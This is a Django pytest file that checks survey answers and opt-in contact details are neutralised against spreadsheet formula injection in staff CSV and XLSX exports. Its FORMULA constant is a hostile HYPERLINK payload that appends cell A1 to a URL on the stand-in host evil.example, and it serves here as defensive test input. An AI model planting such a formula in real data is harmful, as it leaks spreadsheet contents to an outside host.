"""What people typed into a survey or the opt-in form cannot become a formula in a staff export."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from eraati import services
from eraati.conftest import opted_in
from eraati.models import Question

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def _csv_rows(response) -> list[list[str]]:
    content = response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_free_text_and_other_answers_are_neutralised_in_the_answer_exports(
    client, make_survey, answer, make_user
):
    survey = make_survey()
    needs = survey.questions.get(key="needs")
    services.submit_response(
        survey,
        [
            (survey.questions.get(key="free-word"), None, FORMULA),
            (needs, Question.OTHER, "@SUM(1+1)"),
        ],
    )
    client.force_login(make_user(role="social_work_staff"))
    rows = _csv_rows(client.get(reverse("eraati:answers_export", args=[survey.slug, "csv"])))
    keys = rows[0]
    assert rows[1][keys.index("free-word")] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)

    response = client.get(reverse("eraati:answers_export", args=[survey.slug, "xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cell = sheet.cell(row=2, column=keys.index("free-word") + 1)
    assert (cell.value, cell.data_type) == (FORMULA, "s")


def test_opt_in_contacts_are_neutralised_in_the_contacts_export(client, make_user):
    opted_in(name=FORMULA, email="=1+1@example.org", phone="+358 40 123 4567", wants_surveys=True)
    client.force_login(make_user(role="social_work_staff"))
    rows = _csv_rows(client.get(reverse("eraati_contacts:export")))
    assert rows[1][:3] == ["'" + FORMULA, "'=1+1@example.org", "'+358 40 123 4567"]
